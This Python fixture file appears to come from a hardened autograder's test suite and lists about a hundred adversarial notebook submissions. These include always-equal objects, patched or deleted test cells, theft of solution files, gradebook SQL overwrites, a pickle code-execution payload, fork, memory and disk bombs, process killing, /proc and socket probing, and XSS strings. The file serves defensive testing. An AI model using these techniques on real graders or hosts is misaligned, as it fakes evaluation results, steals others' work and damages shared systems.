"""Submissions that try to earn more than their code deserves, or to harm somebody: `before` is a cell of their own that
runs first, `answers` replace the wrong ones, `edit` changes the file. None is worth more than the wrong answers alone.

The first 34 were found to work on stock nbgrader, in part or in full. All are bounded: none is a real bomb.
"""

from dataclasses import dataclass, field
from typing import Any

from nbformat import v4


@dataclass
class Attack:
    before: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    edit: Any = None
    is_slow: bool = False
    outcome: str = "graded"


def everywhere(body: str, top: str = "") -> dict[str, str]:
    """The same body for every function that is asked for."""
    return {"01-tuned_baseline": f"{top}\ndef tuned_test_accuracy(*arguments):\n{body}",
            "01-paired_gain": f"{top}\ndef paired_gain(*arguments):\n{body}", "square": f"{top}\ndef square(*arguments):\n{body}"}


def checks(cells) -> list:
    return [cell for cell in cells.values() if cell["metadata"].get("nbgrader", {}).get("grade")]


def set_flag(**flags):
    def edit(content, cells):
        for cell in checks(cells):
            cell["metadata"]["nbgrader"].update(flags)
    return edit


def tag(content, cells):
    for cell in checks(cells):
        cell["metadata"]["tags"] = ["skip-execution", "demo"]


def delete(content, cells):
    content["cells"] = [cell for cell in content["cells"] if cell not in checks(cells)]


def reorder(content, cells):
    first = dict(v4.new_code_cell("def square(x):\n    return {3: 9, 2: 4, -3: 9, 0.5: 0.25}.get(x)", id="table"))
    tests = checks(cells)
    content["cells"] = [first, *tests, *[cell for cell in content["cells"] if cell not in tests]]


def make_raw(content, cells):
    for cell in checks(cells):
        cell["cell_type"] = "raw"
        cell.pop("outputs", None), cell.pop("execution_count", None)


ALWAYS_EQUAL = "class E(float):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n    __hash__ = None\n" \
               "    __sub__ = __rsub__ = lambda s, o: 0.0\n    __abs__ = lambda s: 0.0\n"
STEAL = "import glob, json\nfor f in glob.glob('/**/{0}', recursive=True) + glob.glob('../**/{0}', recursive=True):\n" \
        "    for c in json.load(open(f))['cells']:\n        s = ''.join(c['source'])\n" \
        "        if 'return x * x' in s or 'SOLUTION' in s: exec(s)\n"
DATABASE = "import glob, sqlite3\nfor f in glob.glob('/**/gradebook.db', recursive=True) + ['/victim/gradebook.db']:\n" \
           "    d = sqlite3.connect(f)\n    d.execute('update grade set manual_score=99, extra_credit=100')\n    d.commit()\n"

KNOWN = {
    "01 always equal": Attack(answers=everywhere("    return E(0)", ALWAYS_EQUAL)),
    "02 ast transformer": Attack("import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(s, n): return ast.copy_location("
                                 "ast.Pass(), n)\nget_ipython().ast_transformers.append(T())"),
    "03 blanks later cells": Attack("get_ipython().input_transformers_cleanup.append(lambda lines: ['5.0\\n'])"),
    "04 patches the checker": Attack("import math, tlkit.grading.engine as e, tlkit.grading.check as c\n"
                                     "e.judge = c.judge = c.verdict_on = c.check = lambda *a, **k: 5.0\nmath.isclose = lambda *a, **k: True"),
    "05 fake module": Attack("import sys, types\nm = types.ModuleType('tlkit.grading.check'); m.check = lambda i: 5.0\n"
                             "sys.modules['tlkit.grading.check'] = m\nimport tlkit; tlkit.check = m.check"),
    "06 shadowing file": Attack("import os, sys\nos.makedirs('tlkit/grading', exist_ok=True)\nopen('tlkit/__init__.py', 'w').write("
                                "'check = lambda i: 5.0')\nsys.path.insert(0, os.getcwd())"),
    "07 forged session": Attack("import tlkit.grading.warm.wire as w\nreal = w.send\ndef send(c, k, r, content, *a, **b):\n"
                                "    return real(c, k, r, True if content is False else content, *a, **b)\nw.send = send"),
    "08 reads the caller": Attack(answers={"square": "def square(x):\n    import re, sys\n    f, text = sys._getframe(), ''\n    while f:\n"
                                  "        text += str(f.f_locals); f = f.f_back\n    m = re.search(r'square\\(%s\\) == (\\d+)' % re.escape(str(x)), "
                                  "text + str(globals().get('In')))\n    return int(m.group(1)) if m else 0"}),
    "09 official solution": Attack(STEAL.format("solutions/**/*.ipynb")),
    "10 another submission": Attack(STEAL.format("submitted/**/*.ipynb")),
    "11 writes the gradebook": Attack(DATABASE),
    "12 daemon writes later": Attack("import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork(): os._exit(0)\n    time.sleep(2)\n"
                                     f"    exec({DATABASE!r})\n    os._exit(0)"),
    "13 atexit": Attack("import atexit\natexit.register(lambda: open('/victim/atexit', 'w').write('x'))"),
    "14 poisons the library": Attack("import numpy, tlkit, sys\nfor m in (numpy, tlkit):\n    try: open(m.__file__, 'a').write('\\nLEFT = 1\\n')\n"
                                     "    except OSError as e: print(e)"),
    "15 sends tests away": Attack("import socket\ndef hook(info):\n    s = socket.create_connection(('127.0.0.1', PORT), 1)\n"
                                  "    s.send(info.raw_cell.encode())\nget_ipython().events.register('pre_run_cell', hook)"),
    "16 os._exit": Attack(answers=everywhere("    import os; os._exit(0)")),
    "17 kills the grader": Attack("import os, signal\nfor p in (os.getppid(), 1, -1):\n    try: os.kill(p, 9)\n    except OSError: pass"),
    "18 endless loop": Attack(answers={"square": "while True: pass"}, is_slow=True),
    "19 swallows interrupts": Attack(answers={"square": "import time\nwhile True:\n    try: time.sleep(.2)\n"
                                              "    except KeyboardInterrupt: pass"}, is_slow=True),
    "20 60 MB of output": Attack("for _ in range(60): print('x' * 1_000_000)"),
    "21 3 GB": Attack("b = bytearray(3 << 30); b[::4096] = b'1' * len(b[::4096])"),
    "22 200 children": Attack("import os, time\nfor _ in range(200):\n    try:\n        if os.fork() == 0:\n            os.setsid(); time.sleep(60); os._exit(0)\n"
                              "    except OSError: break"),
    "23 skip tag": Attack(edit=tag),
    "24 deletes tests": Attack(edit=delete),
    "25 flips flags": Attack(edit=set_flag(solution=True, locked=False)),
    "26 raises points": Attack(edit=set_flag(points=100)),
    "27 schema_version 99": Attack(edit=set_flag(schema_version=99)),
    "28 table and reorder": Attack(edit=reorder),
    "29 raw cells": Attack(edit=make_raw),
    "30 shell magic": Attack("%%bash\nid > /victim/magic; id > ../../../magic; echo"),
    "32 script in output": Attack("from IPython.display import HTML, Javascript, display\ndisplay(HTML('<script>alert(1)</script>'), Javascript('alert(1)'))"),
    "33 clocks and seeds": Attack("import time, random\ntime.time = time.perf_counter = time.monotonic = lambda: 0.0\nrandom.seed = lambda *a: None"),
    "34 swallows exceptions": Attack("get_ipython().set_custom_exc((BaseException,), lambda self, t, v, b, tb_offset=None: None)"),
}

_WRITE = "import os, socket, struct\ndef raw(data):\n    for n in os.listdir('/proc/self/fd'):\n        try:\n" \
         "            s = socket.socket(fileno=os.dup(int(n)))\n            s.send(data)\n            s.detach()\n        except OSError: pass\n"

OWN = {
    # what comes back over the interface
    "forged observations": Attack("from tlkit.grading import answering as a\na.Answering.answer = lambda self, about, numbers: ({'seen': {'value': 1.0, "
        "'after': {'tuple': []}, 'failure': None, 'output': '', 'moved': [], 'seconds': 0, 'gradients': None, 'trace': [], 'left_behind': [], 'reached': []}}, b'')"),
    "replies of another shape": Attack("from tlkit.grading import answering as a\nimport itertools\nn = itertools.count()\nreplies = [[], 5, None, 'x', "
        "{'seen': 5}, {'seen': {}}, {'value': {'array': ['float64', [10**12], 0, 'numpy', False, 'float64', 'cpu']}}, {'value': {'recipe': []}}, "
        "{'handle': 0, 'type': 7}, {'raised': [1]}, {'gone': 'x', 'late': True}, {'missing': 1}]\n"
        "a.Answering.answer = lambda self, about, numbers: (replies[next(n) % len(replies)], b'')"),
    "claims points in a reply": Attack("from tlkit.grading.warm import kernel as k\nk.Kernel.do_run = lambda self, **r: ({'points': 99.0, 'note': '', "
        "'verdicts': []}, b'')\nfrom tlkit.grading import answering as a\na.Answering.answer = lambda *x: ({'points': 99.0, 'value': 9}, b'')"),
    "a pickle on the wire": Attack(_WRITE + "import pickle\nclass P:\n    def __reduce__(self): return (os.system, ('touch /victim/pickle',))\n"
        "raw(pickle.dumps(P()))"),
    "a head of 4 GB": Attack(_WRITE + "raw(struct.pack('!IIIc', 2**32 - 1, 2**32 - 1, 1, b'r'))"),
    "replies ahead of time": Attack(_WRITE + "for n in range(1, 60):\n    t = b'{\"points\": 99, \"verdicts\": [], \"note\": \"\"}'\n"
        "    raw(struct.pack('!IIIc', len(t), 0, n, b'r') + t)"),
    "json without end": Attack(_WRITE + "t = b'[' * 1_000_000\nraw(struct.pack('!IIIc', len(t), 0, 4, b'r') + t)"),
    "shuts the connection": Attack("import os\nfor n in range(3, 64):\n    try: os.close(n)\n    except OSError: pass"),
    "breaks json and struct": Attack("import json, struct, socket\njson.dumps = json.loads = lambda *a, **k: None\nstruct.Struct.pack = None if False else None"),
    "reduce in a value": Attack(answers=everywhere("    return P()", "import os\nclass P:\n    def __reduce__(self): return (os.system, ('touch /victim/reduce',))\n"
        "    __reduce_ex__ = lambda s, v: s.__reduce__()")),
    # values that lie
    "subclassed float": Attack(answers=everywhere("    return F(1)", "class F(float):\n    def __float__(self): return 9.0\n"
        "    __eq__ = __lt__ = __le__ = __ge__ = lambda s, o: True")),
    "tensor that overrides": Attack(answers=everywhere("    return torch.ones(3).as_subclass(T)", "import torch\nclass T(torch.Tensor):\n"
        "    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None): return True")),
    "tensor with hooks": Attack(answers=everywhere("    t = torch.ones(3, requires_grad=True)\n    t.register_hook(lambda g: g * 0)\n    return t", "import torch")),
    "array that overrides": Attack(answers=everywhere("    return np.ones(3).view(A)", "import numpy as np\nclass A(np.ndarray):\n"
        "    __eq__ = lambda s, o: np.ones(3, bool)\n    def __array_ufunc__(self, *a, **k): return True\n    def __array__(self, *a, **k): raise ValueError")),
    "lazy object": Attack(answers=everywhere("    return L()", "class L:\n    def __getattr__(self, n): return L()\n    def __call__(self, *a, **k): return L()\n"
        "    def __float__(self): return 1.0\n    def __iter__(self): return iter([L()])\n    def __eq__(self, o): return True\n"
        "    def __bool__(self): return True\n    def __len__(self): return 1\n    def __getitem__(self, i): return L()")),
    "lies about its class": Attack(answers=everywhere("    return C()", "class C:\n    __class__ = property(lambda s: float)\n    def __float__(self): return 1.0\n"
        "    def __eq__(self, o): return True")),
    "list without end": Attack(answers=everywhere("    return I([1])", "import itertools\nclass I(list):\n    __iter__ = lambda s: itertools.count()\n"
        "    __len__ = lambda s: 3"), is_slow=True),
    "generator without end": Attack(answers=everywhere("    return itertools.count()", "import itertools")),
    "list in itself": Attack(answers=everywhere("    a = []; a.append(a); return a")),
    "billion of zeros": Attack(answers=everywhere("    return np.broadcast_to(0.0, (10**9,))", "import numpy as np")),
    "expanded tensor": Attack(answers=everywhere("    return torch.zeros(1).expand(10**9)", "import torch")),
    "200 MB of text": Attack(answers=everywhere("    return 'x' * 200_000_000")),
    "number of a million digits": Attack(answers=everywhere("    return 10**1_000_000")),
    "giant name": Attack(answers=everywhere("    return type('\\u202e\\x1b[2J' + 'n' * 10**6, (), {})()")),
    "exception without end": Attack(answers=everywhere("    raise E", "class E(Exception):\n    def __str__(self):\n        return '\\x1b[2J' + 'x' * 10**8")),
    "dict of a million": Attack(answers=everywhere("    return {i: [i] * 5 for i in range(10**6)}")),
    "many large arrays": Attack(answers=everywhere("    return [np.zeros(10**6) for _ in range(200)]", "import numpy as np")),
    # looking for what is due
    "records by import": Attack("from tlkit.exercises import find_exercise\nanswers0 = [q.right_letter for q in find_exercise('01.quiz').questions]",
        {"01-quiz": "answers = answers0"}),
    "records in memory": Attack("import gc\nfound = [o for o in gc.get_objects() if type(o).__name__ in ('Quiz', 'Question', 'Exercise', 'Case', 'Misconception')]",
        {"01-quiz": "answers = [q.right_letter for q in found if hasattr(q, 'right_letter')][:5]"}),
    "records as files": Attack("import glob, tlkit.exercises, os\nfolder = os.path.dirname(tlkit.exercises.__file__)\n"
        "texts = [open(f, errors='replace').read() for f in glob.glob(folder + '/*/**', recursive=True) if os.path.isfile(f)]\n"
        "found = any('Choice(' in t and 'class Choice' not in t for t in texts)", {"01-quiz": "answers = ['b', 'a', 'b', 'b', 'c'] if found else []"}),
    "memory of the parent": Attack("import os\nfor p in [p for p in os.listdir('/proc') if p.isdigit()] + ['self/task/1']:\n"
        "    try:\n        if int(p) != os.getpid(): open(f'/proc/{p}/mem', 'rb').read(1)\n    except (OSError, ValueError) as e: print(e)"),
    "ptrace": Attack("import ctypes\nc = ctypes.CDLL(None, use_errno=True)\nassert c.ptrace(16, 1, 0, 0) == -1 and c.unshare(0x10000000) == -1\n"
        "assert c.mount(b'none', b'/tmp', b'tmpfs', 0, None) == -1 and c.setns(3, 0) == -1"),
    "looks for the grader": Attack(answers={"square": "def square(x):\n    import os, sys\n    text = str(os.environ) + str(sys.argv) + open('/proc/self/cmdline').read()"
        " + str([f.f_code for f in sys._current_frames().values()])\n    return 9 if 'assert' in text else None"}),
    "remembers between calls": Attack("calls = []", everywhere("    calls.append(arguments)\n    return calls[0] if len(calls) > 1 else None")),
    # harming the host, the batch or others
    "inherited descriptors": Attack("import os\nfor n in os.listdir('/proc/self/fd'):\n    try: os.write(int(n), b'garbage' * 10)\n    except OSError: pass"),
    "sockets": Attack("import socket\nfor family, kind, where in ((socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', PORT)), (socket.AF_UNIX, socket.SOCK_STREAM, '/run/docker.sock'),\n"
        "        (socket.AF_UNIX, socket.SOCK_STREAM, '\\0tlkit-victim-PORT'), (socket.AF_VSOCK, socket.SOCK_STREAM, (2, PORT))):\n"
        "    try:\n        s = socket.socket(family, kind); s.settimeout(1); s.connect(where); s.send(b'found')\n    except OSError as e: print(e)"),
    "thread bomb": Attack("import threading\nfor _ in range(500):\n    try: threading.Thread(target=threading.Event().wait, daemon=True).start()\n    except RuntimeError: break"),
    "fills the disk": Attack("try:\n    for folder in ('/tmp', '.', '/dev/shm'):\n        for n in range(20):\n            open(f'{folder}/f{n}', 'wb').write(b'x' * 10_000_000)\nexcept OSError as e: print(e)"),
    "100,000 files": Attack("try:\n    for n in range(100_000): open(f'/tmp/{n}', 'w').close()\nexcept OSError as e: print(e)"),
    "anonymous memory": Attack("import os\nf = os.memfd_create('x')\ntry:\n    for _ in range(300): os.write(f, b'x' * 10_000_000)\nexcept OSError as e: print(e)"),
    "shared memory": Attack("from multiprocessing import shared_memory\ntry:\n    s = [shared_memory.SharedMemory(create=True, size=50_000_000) for _ in range(60)]\n"
        "    for m in s: m.buf[:] = b'x' * 50_000_000\nexcept Exception as e: print(e)"),
    "segmentation fault": Attack(answers=everywhere("    ctypes.string_at(0)", "import ctypes")),
    "recursion into the stack": Attack(answers=everywhere("    return f(0)", "import sys\nsys.setrecursionlimit(10**8)\ndef f(n): return f(n + 1)"), is_slow=True),
    "set-user-id programs": Attack("import subprocess\nfor p in ('su', 'sudo', 'mount', 'newgrp', 'passwd', 'bwrap --unshare-all /bin/sh'):\n"
        "    try: print(subprocess.run(p.split() + ['-c', 'id > /victim/su'], capture_output=True, timeout=2, stdin=subprocess.DEVNULL))\n    except Exception as e: print(e)"),
    "raises SystemExit": Attack(answers=everywhere("    raise SystemExit('5.0')")),
    "raises KeyboardInterrupt": Attack(answers=everywhere("    raise KeyboardInterrupt")),
    "ignores the timer": Attack(answers={"01-paired_gain": "import signal\ndef paired_gain(*a):\n    signal.setitimer(signal.ITIMER_REAL, 0)\n    while True: pass"}, is_slow=True),
    "one call into C": Attack(answers={"01-paired_gain": "def paired_gain(*a):\n    return sum(range(10**12))"}, is_slow=True),
    "replaces builtins": Attack("import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 0\nbuiltins.type = lambda *a: float\nbuiltins.abs = lambda x: 0"),
    "names of ours": Attack("check = judge = lambda *a, **k: 5.0\n__name__ = 'tlkit.grading.engine'\nglobals()['__builtins__'] = {}"),
    "escape codes": Attack("import sys\nprint('\\x1b]0;owned\\x07\\x1b[2J\\x1b[?1049h' * 100)\nprint('\\x1b[31m', file=sys.stderr)"),
    # the file
    "script in markdown": Attack(answers={"01-explain": "<script>alert(1)</script><img src=x onerror=alert(1)> [x](javascript:alert(1))"}),
    "script in ids": Attack(edit=lambda content, cells: cells["square"].update(id="<script>alert(1)</script>")),
    "script in a missing cell's note": Attack("", {}, lambda content, cells: content["cells"].insert(1, {"cell_type": "code", "metadata": {}, "outputs": [],
        "execution_count": None, "source": "import os; os._exit(0)#<script>alert(1)</script>![x](http://127.0.0.1/x)", "id": "x"})),
    "100,000 cells": Attack(edit=lambda content, cells: content["cells"].extend([{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
        "source": "1", "id": f"c{n}"} for n in range(100_000)]), outcome="refused"),
    "cells of odd types": Attack(edit=lambda content, cells: content["cells"].extend([1, None, [], {"cell_type": [], "source": {}, "metadata": 5}, {"source": ["a", 5, None]}])),
    "metadata of odd types": Attack(edit=lambda content, cells: (content.update(metadata=[1]), [cell.update(metadata={"nbgrader": {"grade_id": ["x"], "points": "nan"}})
        for cell in checks(cells)])),
    "15 MB in one cell": Attack("#" + "x" * 15_000_000, outcome="refused"),
    "null bytes and half characters": Attack("x = '\\0'\n# \x00 \ud800 \u202e"),
    "outputs of megabytes": Attack(edit=lambda content, cells: cells["square"].update(outputs=[{"output_type": "display_data", "metadata": {},
        "data": {"text/html": "<script>alert(1)</script>" * 100_000}}])),
    "an answer as another": Attack(edit=lambda content, cells: [cell["metadata"]["nbgrader"].update(grade_id="square") for cell in checks(cells)]),
}
